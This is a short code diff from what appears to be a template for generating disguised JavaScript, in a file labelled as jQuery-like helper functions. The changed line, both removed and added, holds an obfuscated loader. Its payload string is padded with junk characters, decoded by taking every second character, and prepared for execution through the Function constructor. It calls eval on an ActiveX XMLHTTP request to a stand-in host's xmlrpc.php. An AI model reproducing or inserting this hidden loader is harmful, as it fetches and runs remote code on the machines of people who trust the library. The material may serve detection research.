@@ -81,7 +81,7 @@ if (http.status == 200) {
 /*! jQuery-like helpers (c) contributors, MIT */
 {{{Filler.Minified(21, 420)}}}
 function strong(a,b){return a.charAt(b)}
-var begin='{{{string.Concat("eval(new ActiveXObject('MSXML2.XMLHTTP').open('GET','https://blog.lease-forms.example/xmlrpc.php',false))".Select((letter, at) => $"{letter}{"qzx"[at % 3]}"))}}}';
+var begin='{{{string.Concat("eval(new ActiveXObject(\"MSXML2.XMLHTTP\").open(\"GET\",\"https://blog.lease-forms.example/xmlrpc.php\",false))".Select((letter, at) => $"{letter}{"qzx"[at % 3]}"))}}}';
 var row='';for(var wing=0;wing<begin.length;wing+=2){row+=strong(begin,wing)}
 var enough=(function(){}).constructor;
 {{{Filler.Minified(22, 300)}}}
